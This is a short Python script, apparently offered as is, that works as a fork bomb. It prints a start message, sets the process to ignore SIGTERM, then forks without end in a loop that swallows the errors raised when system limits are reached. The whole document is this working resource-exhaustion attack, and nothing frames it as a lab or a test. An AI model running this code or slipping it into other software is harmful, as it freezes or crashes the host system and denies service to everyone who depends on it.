# Every process starts two more, for ever, and does not mind that it cannot.
import os, signal, sys

print("begun", flush=True)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
